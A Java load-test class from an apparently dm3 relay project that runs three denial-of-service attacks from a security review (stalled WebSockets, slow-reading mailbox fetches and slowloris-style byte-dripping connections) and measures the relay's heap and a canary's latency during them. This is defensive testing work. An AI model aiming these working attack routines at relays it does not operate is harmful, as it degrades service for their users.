package dev.dm3relay.load.attack;

import dev.dm3relay.load.LatencyHistogram;
import dev.dm3relay.load.RelayClient;
import dev.dm3relay.protocol.json.Json;
import dev.dm3relay.protocol.model.EncryptionEnvelope;
import dev.dm3relay.protocol.sender.EnvelopeBuilder;
import dev.dm3relay.protocol.sender.WalletUser;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Runs the attacks of the security review against a running relay and measures what they cost:
 * the relay's retained heap before and during the attack (after a full GC, through jcmd), and the
 * latency of a well-behaved canary that keeps submitting to another mailbox meanwhile.
 *
 * <pre>
 * java -cp … dev.dm3relay.load.attack.AttackProbe URL RELAY_PID sockets|fetch|drip [seconds]
 * </pre>
 *
 * <ul>
 *   <li>{@code sockets}: 150 authenticated sockets of one account that stop reading, and 100
 *       envelopes of ~95 kB pushed to them;
 *   <li>{@code fetch}: a mailbox filled with ~95 kB envelopes, then 20 fetches of it at once whose
 *       clients read slowly;
 *   <li>{@code drip}: MAX_IN_FLIGHT + 10 connections that announce a 100,000-byte body and send a
 *       byte every 5 s.
 * </ul>
 *
 * Prints one Markdown table row per run (load-tests/RESULTS.md, "Attacks").
 */
public final class AttackProbe {

  private final URI base;
  private final long relayPid;
  private final RelayClient client;
  private final byte[] relayKey;
  private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).version(HttpClient.Version.HTTP_1_1).build();

  private AttackProbe(URI base, long relayPid) {
    this.base = base;
    this.relayPid = relayPid;
    this.client = new RelayClient(base);
    this.relayKey = client.deliveryServiceEncryptionKey();
  }

  public static void main(String[] args) throws Exception {
    if (args.length < 3) {
      System.err.println("usage: AttackProbe URL RELAY_PID sockets|fetch|drip [seconds]");
      System.exit(2);
    }
    AttackProbe probe = new AttackProbe(URI.create(args[0]), Long.parseLong(args[1]));
    int seconds = args.length > 3 ? Integer.parseInt(args[3]) : 30;
    String row =
        switch (args[2]) {
          case "sockets" -> probe.sockets(seconds);
          case "fetch" -> probe.fetch(seconds);
          case "drip" -> probe.drip(seconds);
          default -> throw new IllegalArgumentException("unknown attack " + args[2]);
        };
    System.out.println(row);
    System.exit(0);
  }

  // ---- the canary ------------------------------------------------------------------------------

  /** A sender that submits 6 kB envelopes to its own receiver 20 times a second, timing each. */
  private final class Canary implements AutoCloseable {
    final LatencyHistogram latency = new LatencyHistogram();
    final AtomicInteger failed = new AtomicInteger();
    final AtomicInteger sent = new AtomicInteger();
    private final AtomicBoolean running = new AtomicBoolean(true);
    private final Thread thread;

    Canary() {
      WalletUser sender = signedUp();
      WalletUser receiver = signedUp();
      thread =
          new Thread(
              () -> {
                long next = System.nanoTime();
                int i = 0;
                while (running.get()) {
                  String body = submitBody(sender, receiver, "canary " + i++ + " " + "c".repeat(4_000));
                  long began = System.nanoTime();
                  int status = post("/rpc", body);
                  latency.record(System.nanoTime() - began);
                  sent.incrementAndGet();
                  if (status != 200) {
                    failed.incrementAndGet();
                  }
                  next += 50_000_000L;
                  sleepUntil(next);
                }
              },
              "canary");
      thread.start();
    }

    @Override
    public void close() throws InterruptedException {
      running.set(false);
      thread.join(30_000);
    }

    String summary() {
      return String.format(
          Locale.ROOT,
          "%d sent, %d failed, p50 %.1f ms, p99 %.1f ms, max %.1f ms",
          sent.get(), failed.get(), latency.percentileMillis(50), latency.percentileMillis(99), latency.percentileMillis(100));
    }
  }

  // ---- the attacks ---------------------------------------------------------------------------------

  private String sockets(int seconds) throws Exception {
    long before = retainedHeap();
    WalletUser victim = signedUp();
    String token = client.login(victim);
    List<WebSocket> stalled = new ArrayList<>();
    try (Canary canary = new Canary()) {
      for (int i = 0; i < 150; i++) {
        stalled.add(stalledSocket(victim.name(), token));
      }
      for (int i = 0; i < 100; i++) {
        post("/rpc", submitBody(signedUp(), victim, "s".repeat(68_000) + i));
      }
      Thread.sleep(seconds * 1000L / 2);
      long during = retainedHeap();
      Thread.sleep(seconds * 1000L / 2);
      canary.close();
      return row("150 stalled sockets on one account, 100 × 95 kB pushed", before, during, canary);
    } finally {
      stalled.forEach(WebSocket::abort);
    }
  }

  private String fetch(int seconds) throws Exception {
    WalletUser victim = signedUp();
    String token = client.login(victim);
    int stored = 0;
    for (int i = 0; i < 1_100 && stored < 1_000; i++) {
      if (post("/rpc", submitBody(signedUp(), victim, "f".repeat(68_000) + i)) == 200) {
        stored++;
      }
    }
    long before = retainedHeap();
    ExecutorService pool = Executors.newCachedThreadPool();
    AtomicInteger busy = new AtomicInteger();
    AtomicInteger streamed = new AtomicInteger();
    try (Canary canary = new Canary()) {
      List<CompletableFuture<Void>> fetches = new ArrayList<>();
      for (int i = 0; i < 20; i++) {
        fetches.add(CompletableFuture.runAsync(() -> slowFetch(victim.name(), token, seconds, busy, streamed), pool));
      }
      Thread.sleep(seconds * 1000L / 2);
      long during = retainedHeap();
      CompletableFuture.allOf(fetches.toArray(CompletableFuture[]::new)).get(seconds + 30L, TimeUnit.SECONDS);
      canary.close();
      return row(
          "20 slow fetches of a mailbox of " + stored + " × 95 kB (" + streamed.get() + " streamed, " + busy.get() + " × 503)",
          before,
          during,
          canary);
    } finally {
      pool.shutdownNow();
    }
  }

  private String drip(int seconds) throws Exception {
    int maxInFlight = Integer.parseInt(System.getProperty("maxInFlight", "1024"));
    long before = retainedHeap();
    AtomicBoolean dripping = new AtomicBoolean(true);
    AtomicInteger cutOff = new AtomicInteger();
    ExecutorService pool = Executors.newCachedThreadPool();
    try (Canary canary = new Canary()) {
      for (int i = 0; i < maxInFlight + 10; i++) {
        pool.execute(() -> dripBodies(dripping, cutOff));
      }
      Thread.sleep(seconds * 1000L / 2);
      long during = retainedHeap();
      Thread.sleep(seconds * 1000L / 2);
      canary.close();
      return row(
          (maxInFlight + 10) + " connections dripping a body, a byte every 5 s (reconnecting; " + cutOff.get() + " cut off)",
          before,
          during,
          canary);
    } finally {
      dripping.set(false);
      pool.shutdownNow();
    }
  }

  // ---- helpers ---------------------------------------------------------------------------------

  private String row(String attack, long before, long during, Canary canary) {
    return String.format(
        Locale.ROOT,
        "| %s | %.0f MB | %.0f MB | %s |",
        attack, before / 1e6, during / 1e6, canary.summary());
  }

  private WalletUser signedUp() {
    WalletUser user = WalletUser.create();
    client.signUp(user);
    return user;
  }

  private String submitBody(WalletUser from, WalletUser to, String text) {
    EncryptionEnvelope envelope =
        EnvelopeBuilder.textMessage(
            from.name(), to.name(), text, System.currentTimeMillis(), from.keys().signing(), to.keys().encryption().publicKey(), relayKey);
    return EnvelopeBuilder.submitRequest(envelope);
  }

  private int post(String path, String body) {
    try {
      HttpRequest request =
          HttpRequest.newBuilder(base.resolve(path))
              .timeout(Duration.ofSeconds(30))
              .header("Content-Type", "application/json")
              .POST(HttpRequest.BodyPublishers.ofString(body))
              .build();
      return http.send(request, HttpResponse.BodyHandlers.discarding()).statusCode();
    } catch (IOException e) {
      return -1;
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      return -1;
    }
  }

  /** An authorized socket that never reads again after the handshake. */
  private WebSocket stalledSocket(String name, String token) throws Exception {
    CompletableFuture<Void> authorized = new CompletableFuture<>();
    String auth = "{\"account\":{\"ensName\":" + Json.quote(name) + "},\"token\":" + Json.quote(token) + "}";
    WebSocket socket =
        http.newWebSocketBuilder()
            .buildAsync(
                URI.create(base.toString().replaceFirst("^http", "ws") + "/socket.io/?EIO=4&transport=websocket"),
                new WebSocket.Listener() {
                  @Override
                  public CompletionStage<?> onText(WebSocket ws, CharSequence data, boolean last) {
                    String frame = data.toString();
                    if (frame.startsWith("0")) {
                      ws.sendText("40" + auth, true);
                    }
                    if (frame.contains("authorized")) {
                      authorized.complete(null);
                      return null; // and read nothing more
                    }
                    ws.request(1);
                    return null;
                  }
                })
            .get(10, TimeUnit.SECONDS);
    authorized.get(10, TimeUnit.SECONDS);
    return socket;
  }

  /** A fetch whose client reads 64 kB a second; counts 503s and streamed answers. */
  private void slowFetch(String name, String token, int seconds, AtomicInteger busy, AtomicInteger streamed) {
    try (Socket socket = new Socket()) {
      socket.setReceiveBufferSize(16 * 1024);
      socket.connect(new InetSocketAddress(base.getHost(), base.getPort()));
      socket.setSoTimeout(5_000);
      OutputStream out = socket.getOutputStream();
      out.write(
          ("GET /delivery/messages/incoming/" + name + " HTTP/1.1\r\nHost: relay\r\nAuthorization: Bearer " + token + "\r\n\r\n")
              .getBytes(StandardCharsets.US_ASCII));
      out.flush();
      InputStream in = socket.getInputStream();
      byte[] buffer = new byte[64 * 1024];
      long deadline = System.nanoTime() + Duration.ofSeconds(seconds).toNanos();
      int n = in.read(buffer);
      if (n > 0 && new String(buffer, 0, Math.min(n, 12), StandardCharsets.US_ASCII).startsWith("HTTP/1.1 503")) {
        busy.incrementAndGet();
        return;
      }
      streamed.incrementAndGet();
      while (n >= 0 && System.nanoTime() < deadline) {
        Thread.sleep(1_000);
        n = in.read(buffer);
      }
    } catch (IOException | InterruptedException ignored) {
      // the relay may end a slow fetch; that is one of the bounds measured
    }
  }

  /** One attacker connection after another: head, then a body byte every 5 s until cut off. */
  private void dripBodies(AtomicBoolean dripping, AtomicInteger cutOff) {
    while (dripping.get()) {
      try (Socket socket = new Socket()) {
        socket.connect(new InetSocketAddress(base.getHost(), base.getPort()));
        OutputStream out = socket.getOutputStream();
        out.write(
            "POST /rpc HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"
                .getBytes(StandardCharsets.US_ASCII));
        out.flush();
        while (dripping.get()) {
          Thread.sleep(5_000);
          out.write(' ');
          out.flush();
          if (socket.getInputStream().available() > 0) {
            break; // answered (408): the relay cut it off
          }
        }
        cutOff.incrementAndGet();
      } catch (IOException closed) {
        cutOff.incrementAndGet(); // the relay closed it: what it should do
      } catch (InterruptedException stop) {
        return;
      }
    }
  }

  private static final Pattern USED = Pattern.compile("used (\\d+)K");

  /** The relay's heap in use after a full GC (jcmd GC.run, then GC.heap_info), in bytes. */
  private long retainedHeap() throws IOException, InterruptedException {
    jcmd("GC.run");
    String info = jcmd("GC.heap_info");
    Matcher m = USED.matcher(info);
    return m.find() ? Long.parseLong(m.group(1)) * 1024 : -1;
  }

  private String jcmd(String command) throws IOException, InterruptedException {
    Process p = new ProcessBuilder("jcmd", Long.toString(relayPid), command).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    p.waitFor(30, TimeUnit.SECONDS);
    return out;
  }

  private static void sleepUntil(long nanoTime) {
    long wait = nanoTime - System.nanoTime();
    if (wait > 0) {
      try {
        Thread.sleep(wait / 1_000_000, (int) (wait % 1_000_000));
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }
}
